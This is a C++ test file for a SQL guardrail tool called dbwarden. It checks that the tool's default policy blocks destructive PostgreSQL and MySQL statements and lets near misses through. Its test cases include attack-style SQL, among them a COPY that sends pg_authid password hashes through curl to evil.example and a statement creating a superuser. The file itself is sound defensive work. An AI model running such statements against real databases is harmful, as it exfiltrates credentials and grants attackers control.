// SPDX-License-Identifier: Apache-2.0
//
// The shipped default guardrails (packaging/policy.yaml) against real-world
// statements of both dialects, and the near misses that must pass.
#include <catch2/catch.hpp>
#include <memory>
#include <string>

#include "policy/policy.h"
#include "sql/analyzer.h"

namespace {

using dbwarden::ConnectionInfo;
using dbwarden::policy::Action;
using dbwarden::policy::Policy;
using dbwarden::sql::Dialect;

constexpr Dialect kPg = Dialect::kPostgresql;
constexpr Dialect kMy = Dialect::kMysql;

const Policy& guardrails() {
  static const std::shared_ptr<const Policy> p = [] {
    auto loaded = Policy::load_file(DBW_TEST_DATA_DIR "/../../packaging/policy.yaml");
    REQUIRE(loaded.ok());
    return loaded.value();
  }();
  return *p;
}

struct Case {
  Dialect dialect;
  const char* sql;
  const char* rule;  // "" = allowed
};

void check_cases(std::initializer_list<Case> cases) {
  ConnectionInfo who;
  who.user = "app";
  who.database = "shop";
  for (const Case& c : cases) {
    INFO((c.dialect == kPg ? "postgresql: " : "mysql: ") << c.sql);
    dbwarden::sql::Analyzer analyzer;
    const auto d = guardrails().decide(who, analyzer.analyze(c.dialect, c.sql), c.sql);
    CHECK(d.rule == c.rule);
    CHECK(d.action == (*c.rule ? Action::kBlock : Action::kAllow));
    if (*c.rule) {
      CHECK_THAT(d.message, Catch::StartsWith("dbwarden: "));
      CHECK(d.sqlstate == (c.dialect == kPg ? "42501" : "42000"));
      CHECK(d.mysql_errno == 1142);
    }
  }
}

constexpr const char* kDrop = "no-drop-or-truncate-table";
constexpr const char* kWhere = "no-delete-or-update-without-where";
constexpr const char* kAlter = "no-alter-table-drop";
constexpr const char* kGrant = "no-grant-to-public";
constexpr const char* kCopy = "no-copy-program";
constexpr const char* kRoles = "no-role-changes";

}  // namespace

TEST_CASE("guardrails: DROP and TRUNCATE of tables", "[policy][guardrails]") {
  check_cases({
      {kPg, "DROP TABLE accounts", kDrop},
      {kPg, "DROP TABLE IF EXISTS public.accounts, public.history CASCADE", kDrop},
      {kPg, "/* cleanup */ drop table \"Orders\";", kDrop},
      {kPg, "TRUNCATE accounts", kDrop},
      {kPg, "TRUNCATE TABLE ONLY pgbench_history RESTART IDENTITY", kDrop},
      {kMy, "DROP TABLE `orders`", kDrop},
      {kMy, "DROP TABLE IF EXISTS shop.orders, shop.items", kDrop},
      {kMy, "DROP TEMPORARY TABLE IF EXISTS tmp_report", kDrop},
      {kMy, "DROP TABLES orders, items", kDrop},
      {kMy, "TRUNCATE TABLE shop.orders", kDrop},
      {kMy, "truncate orders", kDrop},
      {kMy, "/*!40101 DROP TABLE t */", kDrop},
      // Near misses.
      {kPg, "DROP INDEX CONCURRENTLY idx_accounts_email", ""},
      {kPg, "DROP VIEW v_accounts", ""},
      {kPg, "CREATE TABLE drop_table (a int)", ""},
      {kPg, "SELECT 'DROP TABLE accounts'", ""},
      {kMy, "DROP INDEX idx_a ON orders", ""},
      {kMy, "SELECT * FROM `drop`", ""},
  });
}

TEST_CASE("guardrails: DELETE and UPDATE without WHERE", "[policy][guardrails]") {
  check_cases({
      {kPg, "DELETE FROM accounts", kWhere},
      {kPg, "delete from public.sessions;", kWhere},
      {kPg, "UPDATE accounts SET balance = 0", kWhere},
      {kPg, "UPDATE accounts SET flag = (SELECT true FROM cfg WHERE k = 'x')", kWhere},
      {kPg, "WITH s AS (SELECT id FROM stale WHERE t < now()) DELETE FROM sessions", kWhere},
      {kPg, "DELETE FROM t USING u", kWhere},
      {kMy, "DELETE FROM orders", kWhere},
      {kMy, "DELETE FROM orders LIMIT 1000", kWhere},
      {kMy, "UPDATE orders SET status = 'void'", kWhere},
      {kMy, "UPDATE LOW_PRIORITY orders SET status = 'void' ORDER BY id LIMIT 10", kWhere},
      // EXPLAIN ANALYZE runs the statement it explains.
      {kPg, "EXPLAIN ANALYZE DELETE FROM accounts", kWhere},
      {kPg, "EXPLAIN (ANALYZE, BUFFERS) UPDATE accounts SET balance = 0", kWhere},
      {kMy, "ANALYZE DELETE FROM orders", kWhere},
      // So does a data-modifying WITH.
      {kPg, "WITH gone AS (DELETE FROM sessions RETURNING id) SELECT count(*) FROM gone", kWhere},
      // Near misses.
      {kPg, "EXPLAIN DELETE FROM accounts", ""},
      {kPg, "EXPLAIN ANALYZE DELETE FROM accounts WHERE id = 1", ""},
      {kMy, "ANALYZE TABLE orders", ""},
      {kPg, "WITH gone AS (DELETE FROM sessions WHERE expires < now() RETURNING id) SELECT 1", ""},
      {kPg, "DELETE FROM accounts WHERE id = 42", ""},
      {kPg, "UPDATE accounts SET balance = balance - 10 WHERE aid = 7", ""},
      {kPg, "DELETE FROM t USING u WHERE t.id = u.id", ""},
      {kPg, "DELETE FROM jobs WHERE CURRENT OF c", ""},
      {kPg, "SELECT * FROM accounts", ""},
      {kPg, "INSERT INTO accounts VALUES (1, 'a')", ""},
      {kMy, "DELETE FROM orders WHERE created < NOW() - INTERVAL 1 YEAR", ""},
      {kMy, "UPDATE orders SET status = 'void' WHERE id IN (1, 2, 3)", ""},
  });
}

TEST_CASE("guardrails: ALTER TABLE ... DROP", "[policy][guardrails]") {
  check_cases({
      {kPg, "ALTER TABLE accounts DROP COLUMN balance", kAlter},
      {kPg, "ALTER TABLE IF EXISTS accounts DROP CONSTRAINT accounts_pkey", kAlter},
      {kPg, "alter table only public.accounts add column x int, drop column y", kAlter},
      {kMy, "ALTER TABLE orders DROP COLUMN note", kAlter},
      {kMy, "ALTER TABLE orders DROP INDEX idx_status", kAlter},
      {kMy, "ALTER TABLE orders DROP PARTITION p2020", kAlter},
      {kMy, "ALTER TABLE orders DROP FOREIGN KEY fk_customer, ALGORITHM=INPLACE", kAlter},
      // Near misses.
      {kPg, "ALTER TABLE accounts ADD COLUMN note text", ""},
      {kPg, "ALTER TABLE accounts ALTER COLUMN note DROP DEFAULT", ""},
      {kPg, "ALTER TABLE accounts ALTER COLUMN note DROP NOT NULL", ""},
      {kPg, "ALTER TABLE accounts RENAME COLUMN note TO remark", ""},
      {kPg, "ALTER INDEX idx RENAME TO idx2", ""},
      {kMy, "ALTER TABLE orders ADD COLUMN note TEXT", ""},
      {kMy, "ALTER TABLE orders ADD INDEX idx_note (note(10))", ""},
      {kMy, "ALTER TABLE orders ALTER COLUMN status DROP DEFAULT", ""},
  });
}

TEST_CASE("guardrails: GRANT to PUBLIC", "[policy][guardrails]") {
  check_cases({
      {kPg, "GRANT SELECT ON accounts TO PUBLIC", kGrant},
      {kPg, "GRANT ALL ON ALL TABLES IN SCHEMA public TO public", kGrant},
      {kPg, "GRANT EXECUTE ON FUNCTION transfer(int, int, numeric) TO PUBLIC", kGrant},
      {kPg, "ALTER DEFAULT PRIVILEGES IN SCHEMA app GRANT SELECT ON TABLES TO PUBLIC", kGrant},
      {kMy, "GRANT SELECT ON shop.* TO PUBLIC", kGrant},
      // Near misses: grants to a role, revokes from PUBLIC.
      {kPg, "GRANT SELECT ON public.accounts TO reporting", ""},
      {kPg, "GRANT reporting TO alice", ""},
      {kPg, "REVOKE ALL ON accounts FROM PUBLIC", ""},
      {kPg, "REVOKE CREATE ON SCHEMA public FROM PUBLIC", ""},
      {kMy, "GRANT SELECT, INSERT ON shop.* TO 'app'@'10.%'", ""},
      {kMy, "GRANT 'reader' TO 'alice'@'%'", ""},
  });
}

TEST_CASE("guardrails: COPY ... PROGRAM", "[policy][guardrails]") {
  check_cases({
      {kPg, "COPY accounts TO PROGRAM 'gzip > /var/tmp/accounts.gz'", kCopy},
      {kPg, "COPY (SELECT * FROM pg_authid) TO PROGRAM 'curl -d @- http://evil.example'", kCopy},
      {kPg, "copy cmd_output from program 'id'", kCopy},
      // Near misses: COPY to the client, from the client.
      {kPg, "COPY accounts TO STDOUT WITH (FORMAT csv, HEADER)", ""},
      {kPg, "COPY accounts (aid, abalance) FROM STDIN", ""},
      {kPg, "COPY (SELECT 1) TO STDOUT", ""},
  });
}

TEST_CASE("guardrails: changes to roles and users", "[policy][guardrails]") {
  check_cases({
      {kPg, "CREATE ROLE reporting NOLOGIN", kRoles},
      {kPg, "CREATE USER mallory WITH SUPERUSER PASSWORD 'x'", kRoles},
      {kPg, "ALTER ROLE app SUPERUSER", kRoles},
      {kPg, "ALTER USER app WITH PASSWORD 'SCRAM-SHA-256$4096:abc'", kRoles},
      {kPg, "DROP ROLE IF EXISTS reporting", kRoles},
      {kPg, "DROP USER old_app", kRoles},
      {kPg, "CREATE GROUP staff", kRoles},
      {kPg, "ALTER GROUP staff ADD USER alice", kRoles},
      {kMy, "CREATE USER 'mallory'@'%' IDENTIFIED BY 'x'", kRoles},
      {kMy, "CREATE USER IF NOT EXISTS app@localhost", kRoles},
      {kMy, "ALTER USER 'app'@'localhost' IDENTIFIED BY 'new'", kRoles},
      {kMy, "DROP USER 'old'@'%'", kRoles},
      {kMy, "RENAME USER 'a'@'%' TO 'b'@'%'", kRoles},
      {kMy, "CREATE ROLE reader", kRoles},
      {kMy, "DROP ROLE reader", kRoles},
      // Near misses.
      {kPg, "CREATE USER MAPPING FOR app SERVER remote OPTIONS (user 'x')", ""},
      {kPg, "SELECT rolname FROM pg_roles", ""},
      {kPg, "SET ROLE reporting", ""},
      {kPg, "CREATE TABLE users (id int)", ""},
      {kMy, "SELECT user, host FROM mysql.user", ""},
      {kMy, "SET ROLE reader", ""},
  });
}
